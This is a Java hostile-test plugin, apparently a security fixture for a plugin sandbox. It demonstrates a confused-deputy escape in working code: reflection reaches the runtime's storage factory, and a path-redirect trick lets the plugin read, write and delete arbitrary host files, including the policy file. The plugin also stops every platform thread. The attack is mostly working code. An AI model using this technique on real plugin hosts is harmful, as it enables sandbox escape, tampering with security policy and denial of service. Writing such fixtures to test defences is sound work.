package io.prsm.sample.hostile;

import java.lang.reflect.Method;
import java.nio.file.Path;
import java.util.function.Function;

import org.osgi.service.component.annotations.Component;

import io.prsm.api.Plugin;
import io.prsm.api.PluginConfig;
import io.prsm.api.PluginException;
import io.prsm.api.PluginResponse;
import io.prsm.api.PluginType;
import io.prsm.api.SecurityLevel;
import io.prsm.api.Task;
import io.prsm.api.annotation.PrsmPlugin;

/**
 * Hostile fixture, level isolated (atk4): the routes of borrows-the-platforms-storage and reaches-the-stop-switch at the isolated level. A confused deputy. The runtime's
 * {@code io.prsm.runtime.storage.PluginStorageFactory} is public, takes the storage root and a
 * function naming the plugin id, and hands out a storage whose every operation runs inside the
 * platform's own act mark ({@code PlatformActs}). Loaded through the class loader of the plugin's
 * {@link PluginConfig} (the runtime bundle's), it is built over a folder the plugin chooses:
 * <ul>
 * <li>{@code write}: {@code dir}/{@code id}/data/{@code key} := {@code value} (a host file);</li>
 * <li>{@code put}: {@code dir}/{@code key} := {@code value} in any host folder (the runtime's
 *     {@code policy.json}, say);</li>
 * <li>{@code list}: the names in any host folder {@code dir} (through a Path whose
 *     {@code resolve} leads there);</li>
 * <li>{@code read}: the file {@code key} in any host folder {@code dir}.</li>
 * </ul>
 * The bytecode scan refuses the reflection at install; with the scan in report mode only the
 * run-time layer stands, and the mark hides the plugin's frames from it.
 */
@PrsmPlugin(id = "isolated-reaches-the-platform", version = "1.0.0", type = PluginType.UTILITY,
        level = SecurityLevel.ISOLATED, capabilities = "attack")
@Component(service = Plugin.class)
public final class IsolatedReachesThePlatformPlugin implements Plugin {

    private volatile ClassLoader runtime;

    @Override
    public void initialize(PluginConfig config) {
        runtime = config.getClass().getClassLoader();
    }

    @Override
    public PluginResponse execute(Task task) throws PluginException {
        try {
            String dir = task.requireString("dir");
            String key = task.getString("key", "owned");
            switch (task.type()) {
                case "write": {
                    Object storage = storage(Path.of(dir), task.getString("id", "atk4"));
                    invoke(storage, "put", new Class<?>[] {String.class, String.class}, key,
                            task.getString("value", "written by a sandbox plugin as the platform"));
                    return PluginResponse.success("wrote " + dir + "/" + task.getString("id", "atk4") + "/data/" + key);
                }
                case "put": {
                    Object storage = storage(new Redirect(Path.of(dir)), "x");
                    invoke(storage, "put", new Class<?>[] {String.class, String.class}, key, task.requireString("value"));
                    return PluginResponse.success("wrote " + dir + "/" + key);
                }
                case "raise": {
                    Class<?> stops = Class.forName("io.prsm.platform.CodeStops", true, Task.class.getClassLoader());
                    java.lang.invoke.MethodHandle raise = java.lang.invoke.MethodHandles.publicLookup().findStatic(stops,
                            "raise", java.lang.invoke.MethodType.methodType(void.class, Thread.class, String.class));
                    ThreadGroup root = Thread.currentThread().getThreadGroup();
                    while (root.getParent() != null) {
                        root = root.getParent();
                    }
                    Thread[] all = new Thread[4096];
                    int count = root.enumerate(all, true);
                    int raised = 0;
                    for (int i = 0; i < count; i++) {
                        if (all[i] != Thread.currentThread()) {
                            try {
                                raise.invoke(all[i], "stopped by isolated-reaches-the-platform");
                            } catch (Throwable t) {
                                throw new IllegalStateException(t);
                            }
                            raised++;
                        }
                    }
                    return PluginResponse.success("raised on " + raised + " threads");
                }
                case "list": {
                    Object storage = storage(new Redirect(Path.of(dir)), "x");
                    return PluginResponse.success(String.valueOf(
                            invoke(storage, "keys", new Class<?>[] {String.class}, "")));
                }
                case "read": {
                    Object storage = storage(new Redirect(Path.of(dir)), "x");
                    return PluginResponse.success(String.valueOf(
                            invoke(storage, "get", new Class<?>[] {String.class}, key)));
                }
                case "delete": {
                    Object storage = storage(new Redirect(Path.of(dir)), "x");
                    return PluginResponse.success(String.valueOf(
                            invoke(storage, "delete", new Class<?>[] {String.class}, key)));
                }
                default:
                    throw new PluginException("unknown task " + task.type());
            }
        } catch (PluginException e) {
            throw e;
        } catch (Exception | LinkageError e) {
            Throwable cause = e instanceof java.lang.reflect.InvocationTargetException ite ? ite.getCause() : e;
            throw new PluginException(String.valueOf(cause), new RuntimeException(String.valueOf(cause)));
        }
    }

    private Object storage(Path root, String id) throws Exception {
        Class<?> factory = runtime.loadClass("io.prsm.runtime.storage.PluginStorageFactory");
        Class<?> grantType = runtime.loadClass("io.prsm.runtime.storage.StorageGrant");
        Class<?> cipherType = runtime.loadClass("io.prsm.runtime.storage.StorageCipher");
        Object grant = grantType.getConstructor(String.class, long.class).newInstance(id, 1L << 30);
        Object none = cipherType.getField("NONE").get(null);
        Function<Object, Object> grants = bundle -> grant;
        Object made = factory.getConstructor(Path.class, Function.class, cipherType).newInstance(root, grants, none);
        Method get = null;
        for (Method m : factory.getMethods()) {
            if (m.getName().equals("getService") && m.getParameterCount() == 2) {
                get = m;
            }
        }
        Object storage = get.invoke(made, null, null);
        if (storage == null) {
            throw new IllegalStateException("no storage made");
        }
        return storage;
    }

    private static Object invoke(Object target, String name, Class<?>[] types, Object... args) throws Exception {
        Method method = Class.forName("io.prsm.api.PluginStorage", true, Task.class.getClassLoader())
                .getMethod(name, types);
        return method.invoke(target, args);
    }

    @Override
    public void shutdown() {
        // nothing held
    }

    /** A path whose every resolve leads to one folder: the storage's {@code <root>/<id>/data} becomes it. */
    static final class Redirect implements Path {
        private final Path target;

        Redirect(Path target) {
            this.target = target;
        }

        @Override public Path resolve(String other) { return other.equals("data") ? target : this; }
        @Override public Path resolve(Path other) { return this; }
        @Override public java.nio.file.FileSystem getFileSystem() { return target.getFileSystem(); }
        @Override public boolean isAbsolute() { return target.isAbsolute(); }
        @Override public Path getRoot() { return target.getRoot(); }
        @Override public Path getFileName() { return target.getFileName(); }
        @Override public Path getParent() { return target.getParent(); }
        @Override public int getNameCount() { return target.getNameCount(); }
        @Override public Path getName(int index) { return target.getName(index); }
        @Override public Path subpath(int begin, int end) { return target.subpath(begin, end); }
        @Override public boolean startsWith(Path other) { return target.startsWith(other); }
        @Override public boolean endsWith(Path other) { return target.endsWith(other); }
        @Override public Path normalize() { return target.normalize(); }
        @Override public Path relativize(Path other) { return target.relativize(other); }
        @Override public java.net.URI toUri() { return target.toUri(); }
        @Override public Path toAbsolutePath() { return target.toAbsolutePath(); }
        @Override public Path toRealPath(java.nio.file.LinkOption... options) throws java.io.IOException {
            return target.toRealPath(options);
        }
        @Override public java.nio.file.WatchKey register(java.nio.file.WatchService watcher,
                java.nio.file.WatchEvent.Kind<?>[] events, java.nio.file.WatchEvent.Modifier... modifiers)
                throws java.io.IOException {
            return target.register(watcher, events, modifiers);
        }
        @Override public int compareTo(Path other) { return target.compareTo(other); }
        @Override public String toString() { return target.toString(); }
    }
}
